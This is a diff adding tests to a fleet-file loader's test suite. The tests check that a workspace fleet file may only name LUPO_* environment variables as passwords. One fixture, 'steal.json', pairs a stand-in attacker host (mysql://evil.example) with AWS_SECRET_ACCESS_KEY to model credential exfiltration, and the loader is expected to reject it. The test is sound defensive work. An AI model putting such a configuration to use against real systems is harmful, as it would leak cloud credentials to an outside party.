@@ -67,6 +67,19 @@ describe('fleet file', () => {
       JSON.stringify({ reference: 'zz', targets: [{ name: 'a', url: 'mysql://h' }] }),
     );
     await expect(loadFleetFile(ref)).rejects.toThrow(/reference "zz" is not a target/);
+    // A fleet file travels with the workspace: it may only name LUPO_* variables as passwords.
+    const stealEnv = await fleetFile(
+      'steal.json',
+      JSON.stringify({ targets: [{ name: 'a', url: 'mysql://evil.example', passwordEnv: 'AWS_SECRET_ACCESS_KEY' }] }),
+    );
+    await expect(loadFleetFile(stealEnv)).rejects.toThrow(
+      /steal\.json: targets\.0\.passwordEnv \(target "a"\): .*LUPO_/,
+    );
+    const lupoEnv = await fleetFile(
+      'lupo-env.json',
+      JSON.stringify({ targets: [{ name: 'a', url: 'mysql://h', passwordEnv: 'LUPO_PASSWORD_A' }] }),
+    );
+    await expect(loadFleetFile(lupoEnv)).resolves.toBeTruthy();
     const syntax = await fleetFile('syntax.json', '{ "targets": [');
     await expect(loadFleetFile(syntax)).rejects.toThrow(/syntax\.json:/);
   });
